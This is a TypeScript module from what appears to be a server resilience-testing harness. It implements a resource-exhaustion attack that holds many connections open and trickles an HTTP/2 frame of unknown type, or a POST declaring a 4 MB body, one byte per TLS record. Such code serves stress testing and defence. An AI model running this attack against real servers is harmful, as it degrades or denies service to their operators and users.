// Bytes that arrive in TLS records of one byte: each is an object of its own to the server.

import { writeFrame } from '../../../bench/http2-frames.ts';
import { hello } from '../../http2-server/raw-frames.ts';
import { type Attack, keepOpen } from '../attacker/attack.ts';
import { openSocket } from '../attacker/socket.ts';
import { tally } from '../attacker/tally.ts';

/** Records that are written before the attacker looks whether the connection is still open. */
const BURST = 1_000;

const FRAME_OF_NO_TYPE = writeFrame(0xbb, 0, 0, Buffer.alloc(16_384));
const HEAD =
  'POST /ect.v1.AuthorityService/Issue HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n';

/** Options: `protocol` (`h2` or `http/1.1`), `connections`. */
export const attack: Attack = async ({ target, options }) => {
  const isHttp2 = options['protocol'] === 'h2';
  return (until) =>
    keepOpen(Number(options['connections']), until, async () => {
      const socket = await openSocket(target, isHttp2 ? 'h2' : 'http/1.1');
      socket.resume();
      socket.write(isHttp2 ? hello() : HEAD);
      for (let at = 0; !until.aborted && socket.writable; at++) {
        const byte = at % FRAME_OF_NO_TYPE.length;
        // Without waiting for the one before, Node would join them into one record.
        await new Promise((written) => socket.write(FRAME_OF_NO_TYPE.subarray(byte, byte + 1), written));
        tally('records');
        if (at % BURST === 0) await new Promise(setImmediate);
      }
    });
};
